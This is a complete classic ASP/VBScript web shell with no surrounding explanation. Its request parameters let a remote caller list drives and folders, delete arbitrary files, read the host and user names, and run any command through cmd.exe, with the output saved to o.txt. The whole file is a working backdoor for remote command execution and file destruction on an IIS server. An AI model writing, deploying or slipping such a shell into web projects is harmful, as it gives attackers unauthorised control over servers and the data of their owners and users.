<%@ Language=VBScript %>
<%
Server.ScriptTimeout = 600
Dim fso, sh, net, act
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set net = Server.CreateObject("WScript.Network")
act = Request("act")
Select Case act
Case "drives"
    For Each d In fso.Drives
        Response.Write d.DriveLetter & ": " & d.DriveType & "<br>"
    Next
Case "ls"
    Set fo = fso.GetFolder(Request("p"))
    For Each s In fo.SubFolders : Response.Write s.Name & "/<br>" : Next
    For Each f In fo.Files : Response.Write f.Name & " " & f.Size & "<br>" : Next
Case "rm"
    fso.DeleteFile Request("p"), True
Case "info"
    Response.Write net.ComputerName & "\" & net.UserName
    Set u = GetObject("WinNT://" & net.ComputerName)
Case "run"
    Set sh = Server.CreateObject("Shell.Application")
    sh.ShellExecute "cmd.exe", "/c " & Request("a") & " > " & Server.MapPath("o.txt"), "", "open", 0
End Select
%>
